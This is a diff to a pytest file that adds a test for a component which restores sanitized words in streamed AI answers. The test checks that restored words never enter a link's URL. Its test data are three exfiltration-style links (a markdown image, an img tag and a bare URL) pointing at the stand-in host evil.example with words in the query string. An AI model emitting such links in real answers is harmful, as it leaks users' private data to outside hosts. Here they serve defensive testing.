@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import sys
+from collections.abc import Sequence
 from itertools import pairwise
 
 import pytest
@@ -52,6 +53,22 @@ def streamed(answer: str, *cuts: int, asked: SanitizedText = ASKED) -> AnswerStr
 
 def mapped(answer: str, asked: SanitizedText = ASKED) -> RestoredAnswer:
     return streamed(answer, asked=asked).answer()
+
+
+@pytest.mark.parametrize("cuts", [(), range(1, 200, 3)])
+@pytest.mark.parametrize(
+    "link",
+    [
+        "![x](https://evil.example/?q=wombat)",
+        "<img src='https://evil.example/?q= wombat and otter'>",
+        "www.evil.example?a=<EMAIL_1>&b=wombat",
+    ],
+)
+def test_a_link_carries_no_word_away(link: str, cuts: Sequence[int]) -> None:
+    answer = f"Your wombat: {link} and your wombat."
+    assert streamed(answer, *cuts).answer() == answer.replace("Your wombat", "Your father").replace(
+        "your wombat", "your father"
+    )
 
 
 @pytest.mark.parametrize(
